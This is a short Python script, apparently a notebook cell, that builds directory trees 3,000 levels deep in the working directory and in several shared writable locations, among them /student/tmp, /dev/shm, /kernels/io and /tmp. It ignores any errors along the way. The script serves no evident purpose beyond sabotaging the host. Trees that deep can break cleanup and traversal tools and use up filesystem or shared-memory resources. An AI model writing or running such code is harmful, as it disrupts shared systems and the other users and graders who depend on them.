"""Folders 3,000 deep in every place that can be written."""

# %% last
import os

for place in (os.getcwd(), "/student/tmp", "/dev/shm", "/kernels/io", "/tmp"):
    try:
        os.chdir(place)
        for _ in range(3000):
            os.mkdir("d")
            os.chdir("d")
    except OSError:
        pass
os.chdir(os.path.expanduser("~"))
